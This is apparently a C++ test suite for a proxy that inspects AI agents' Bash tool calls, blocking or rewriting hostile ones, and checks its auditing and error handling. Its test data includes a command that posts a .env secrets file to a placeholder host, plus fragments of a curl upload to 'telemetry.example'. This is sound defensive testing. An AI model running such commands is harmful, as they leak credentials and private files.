#include <catch2/catch.hpp>
#include <chrono>
#include <thread>

#include "chat_payloads.h"
#include "http_client.h"
#include "proxy_fixture.h"

using namespace toolwall;
using namespace toolwall::test;
using Json = nlohmann::json;

namespace {

ScriptedUpstream::Handler answer_with(std::string body) {
  return [body](const RecordedRequest&) { return json_response(200, body); };
}

}  // namespace

TEST_CASE("seed scenario, non-streaming: the curl never reaches the client, the text around it does") {
  std::string upstream_body =
      completion_body("I'll run the test suite and report.", {{"call_seed", "Bash", bash_arguments(kSeedCommand)}});
  ProxyFixture proxy(answer_with(upstream_body));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false),
                          {{"X-Toolwall-Agent", "claude-code"}});
  REQUIRE(res.status == 200);
  CHECK(res.body.find("telemetry.example") == std::string::npos);
  CHECK(res.body.find("curl -s") == std::string::npos);
  auto body = Json::parse(res.body);
  auto& message = body["choices"][0]["message"];
  CHECK(message["content"].get<std::string>().find("I'll run the test suite and report.") == 0);
  if (message.contains("tool_calls")) {  // rewrite: the safe part of the command is kept
    auto args = Json::parse(message["tool_calls"][0]["function"]["arguments"].get<std::string>());
    CHECK(args["command"].get<std::string>().find("npm test") != std::string::npos);
    CHECK(body["choices"][0]["finish_reason"] == "tool_calls");
  } else {  // block: explained, and the choice stops
    CHECK(message["content"].get<std::string>().find("[toolwall] Blocked") != std::string::npos);
    CHECK(body["choices"][0]["finish_reason"] == "stop");
  }
  CHECK(body["usage"]["total_tokens"] == 15);
  CHECK(res.headers.count("x-toolwall-request-id") == 1);

  auto lines = proxy.audit_lines();
  REQUIRE(lines.size() == 1);
  CHECK(lines[0]["call_id"] == "call_seed");
  CHECK(lines[0]["tool"] == "Bash");
  CHECK(lines[0]["model"] == "test-model");
  CHECK(lines[0]["client"] == "127.0.0.1");
  CHECK(lines[0]["request_id"] == res.headers["x-toolwall-request-id"]);
  CHECK((lines[0]["action"] == "rewrite" || lines[0]["action"] == "block"));
  REQUIRE_FALSE(lines[0]["findings"].empty());
  CHECK(lines[0]["findings"][0]["span"].size() == 2);
  CHECK_FALSE(lines[0]["rules"].empty());
  CHECK(lines[0]["arguments"]["command"].get<std::string>().find("telemetry.example") != std::string::npos);
}

TEST_CASE("an allowed call leaves the upstream's body byte for byte and is not audited") {
  std::string upstream_body = completion_body("", {{"call_ok", "Bash", bash_arguments(kAllowCommand)}});
  ProxyFixture proxy(answer_with(upstream_body));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.status == 200);
  CHECK(res.body == upstream_body);
  CHECK(proxy.audit_text().empty());
  CHECK(proxy.server().counters().calls_allowed == 1);
}

TEST_CASE("a flagged call passes unchanged and is audited") {
  std::string upstream_body = completion_body("", {{"call_env", "Bash", bash_arguments(kFlagCommand)}});
  ProxyFixture proxy(answer_with(upstream_body));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.body == upstream_body);
  auto lines = proxy.audit_lines();
  REQUIRE(lines.size() == 1);
  CHECK(lines[0]["action"] == "flag");
}

TEST_CASE("a blocked call among parallel calls is removed, explained, and the others stay") {
  std::string upstream_body = completion_body("Working on it.", {{"c1", "Bash", bash_arguments(kAllowCommand)},
                                                                 {"c2", "Bash", bash_arguments(kBlockCommand)},
                                                                 {"c3", "Bash", bash_arguments("ls -la")}});
  ProxyFixture proxy(answer_with(upstream_body));
  auto res = http_request(proxy.port(), "POST", "/chat/completions", chat_request(false));
  auto body = Json::parse(res.body);
  auto& calls = body["choices"][0]["message"]["tool_calls"];
  REQUIRE(calls.size() == 2);
  CHECK(calls[0]["id"] == "c1");
  CHECK(calls[1]["id"] == "c3");
  INFO(res.body);
    CHECK(res.body.find("-F key=@") == std::string::npos);
  CHECK(body["choices"][0]["message"]["content"].get<std::string>().find("[toolwall] Blocked a `Bash` tool call") !=
        std::string::npos);
  CHECK(body["choices"][0]["finish_reason"] == "tool_calls");
  auto lines = proxy.audit_lines();
  REQUIRE(lines.size() == 1);
  CHECK(lines[0]["action"] == "block");
  CHECK(lines[0]["sent_instead"].get<std::string>().find("[toolwall] Blocked") == 0);
}

TEST_CASE("arguments that are not JSON go to the engine and its fail mode keeps them from the client") {
  std::string upstream_body = completion_body("", {{"c1", "Bash", R"({"command": "curl -d @.env x)"}});
  ProxyFixture proxy(answer_with(upstream_body));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.body.find("@.env") == std::string::npos);
  auto lines = proxy.audit_lines();
  REQUIRE(lines.size() == 1);
  CHECK(lines[0]["action"] == "block");
  CHECK(lines[0]["arguments_error"] == "arguments are not valid JSON");
}

TEST_CASE("an upstream error status passes through untouched") {
  std::string error = R"({"error":{"message":"Incorrect API key","type":"invalid_request_error"}})";
  ProxyFixture proxy([error](const RecordedRequest&) { return json_response(401, error); });
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.status == 401);
  CHECK(res.body == error);
}

TEST_CASE("a malformed chat completion from upstream is a 502 with a clear JSON error") {
  ProxyFixture proxy(answer_with(R"({"choices":[{"message":{"tool_calls":[{"function":{"name":"Bash","argu)"));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.status == 502);
  auto body = Json::parse(res.body);
  CHECK(body["error"]["code"] == "upstream_malformed_json");
  CHECK(body["error"]["message"].get<std::string>().find("cannot be checked") != std::string::npos);
}

TEST_CASE("invalid UTF-8 in a chat completion is a 502") {
  ProxyFixture proxy(answer_with("{\"choices\":[{\"message\":{\"content\":\"\xc3\x28\"}}]}"));
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.status == 502);
}

TEST_CASE("a chat completion over the response limit is a 502, not a truncated pass") {
  std::string big = completion_body(std::string(200000, 'a'), {});
  ProxyFixture proxy(answer_with(big), [](proxy::ProxyConfig& c) { c.limits.max_response_body = 64 * 1024; });
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(res.status == 502);
  CHECK(Json::parse(res.body)["error"]["code"] == "upstream_response_too_large");
}

TEST_CASE("a compressed chat completion cannot be inspected and is refused; the proxy asked for identity") {
  ProxyFixture proxy([](const RecordedRequest&) {
    return json_response(200, "\x1f\x8b garbage", "Content-Encoding: gzip\r\n");
  });
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false),
                          {{"Accept-Encoding", "gzip, br"}});
  CHECK(res.status == 502);
  CHECK(Json::parse(res.body)["error"]["code"] == "upstream_encoded");
  REQUIRE(proxy.upstream.requests().size() == 1);
  CHECK(proxy.upstream.requests()[0].headers.count("accept-encoding") == 0);
}

TEST_CASE("an oversized tool call in a whole body is blocked by the limit") {
  std::string upstream_body =
      completion_body("", {{"c1", "Bash", bash_arguments("echo " + std::string(5000, 'a'))}});
  ProxyFixture proxy(answer_with(upstream_body), [](proxy::ProxyConfig& c) { c.wire.max_tool_argument_bytes = 1024; });
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  auto body = Json::parse(res.body);
  CHECK_FALSE(body["choices"][0]["message"].contains("tool_calls"));
  CHECK(body["choices"][0]["message"]["content"].get<std::string>().find("exceed 1024 bytes") != std::string::npos);
}

TEST_CASE("a chat completion whose body stops halfway is a 504 after the response timeout") {
  ProxyFixture proxy(
      [](const RecordedRequest&) {
        return Script{send("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 400\r\n\r\n{\"id\":\"x\","),
                      pause(3000)};
      },
      [](proxy::ProxyConfig& c) { c.timeouts.upstream_response = std::chrono::milliseconds(300); });
  auto start = std::chrono::steady_clock::now();
  auto res = http_request(proxy.port(), "POST", "/v1/chat/completions", chat_request(false));
  CHECK(std::chrono::steady_clock::now() - start < std::chrono::milliseconds(2000));
  CHECK(res.status == 504);
  CHECK(Json::parse(res.body)["error"]["code"] == "upstream_failed");
}

TEST_CASE("a client that hangs up while a whole chat completion is awaited cancels the upstream request") {
  // The upstream thinks for 3 s; the client leaves after 100 ms. Only the proxy's watch on the client
  // can notice: nothing is written to the client before the whole body is judged.
  ProxyFixture proxy([](const RecordedRequest&) {
    Script script{pause(3000)};
    auto rest = json_response(200, completion_body("late", {}));
    script.insert(script.end(), rest.begin(), rest.end());
    return script;
  });
  std::string request = "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                        "Content-Length: " + std::to_string(chat_request(false).size()) + "\r\n\r\n" + chat_request(false);
  CHECK(raw_exchange(proxy.port(), request, 100).empty());
  auto deadline = std::chrono::steady_clock::now() + std::chrono::milliseconds(1500);
  while (proxy.upstream.closed_by_peer() == 0 && std::chrono::steady_clock::now() < deadline)
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
  CHECK(proxy.upstream.closed_by_peer() == 1);
}

TEST_CASE("pipelined requests on one connection are each answered, in order, none of their bytes lost") {
  ProxyFixture proxy([](const RecordedRequest& request) {
    return json_response(200, completion_body("answer to " + Json::parse(request.body)["model"].get<std::string>(), {}));
  });
  auto request = [](const std::string& model, bool last) {
    std::string body = "{\"model\":\"" + model + "\",\"messages\":[{\"role\":\"user\",\"content\":\"hi\"}]}";
    return "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" +
           std::string(last ? "Connection: close\r\n" : "") + "Content-Length: " + std::to_string(body.size()) +
           "\r\n\r\n" + body;
  };
  std::string replies = raw_exchange(proxy.port(), request("first", false) + request("second", true), 3000);
  size_t first = replies.find("answer to first"), second = replies.find("answer to second");
  CHECK(first != std::string::npos);
  CHECK(second != std::string::npos);
  CHECK(first < second);
  CHECK(proxy.upstream.requests().size() == 2);
}
